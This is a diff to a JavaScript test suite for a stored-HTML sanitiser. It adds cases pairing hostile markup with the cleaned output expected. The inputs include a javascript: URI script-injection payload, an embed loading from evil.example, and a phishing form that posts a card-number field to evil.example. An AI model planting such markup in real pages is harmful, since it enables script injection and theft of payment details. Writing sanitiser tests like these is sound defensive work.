@@ -28,6 +28,11 @@ describe('the stored-HTML sanitiser', () => {
     ['<object data="https://evil.example/x.swf"></object><embed src="x.swf">', ''],
     ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
     ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mi>x</mi></math>'],
+    [
+      '<form action="https://evil.example/"><input name="pan"><textarea></textarea><button>Verify</button></form>',
+      'Verify',
+    ],
+    ['<p>Pick <select><option>one</option></select></p>', '<p>Pick one</p>'],
   ])('makes %s harmless', (hostile, clean) => {
     const result = sanitize(hostile);
     expect(result).toBe(clean);
